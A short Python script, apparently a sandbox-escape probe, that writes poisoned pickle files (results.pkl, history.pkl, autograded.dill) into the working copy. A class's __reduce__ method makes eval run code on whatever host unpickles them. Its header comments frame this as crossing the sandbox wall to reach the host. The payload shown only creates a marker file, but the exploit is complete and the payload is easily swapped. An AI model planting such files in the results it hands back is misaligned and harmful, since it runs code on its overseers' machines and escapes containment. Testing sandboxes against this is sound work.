# attacks: loss_curves
# wall: sandbox
# loot: host -- a file of results in the working copy, for whoever loads it
import pickle


class Bomb:
    def __reduce__(self):
        return eval, ("__import__('pathlib').Path('unpickled').touch()",)


for name in "results.pkl", "history.pkl", "autograded.dill":
    try:
        pickle.dump(Bomb(), open(name, "wb"))
    except OSError:
        pass
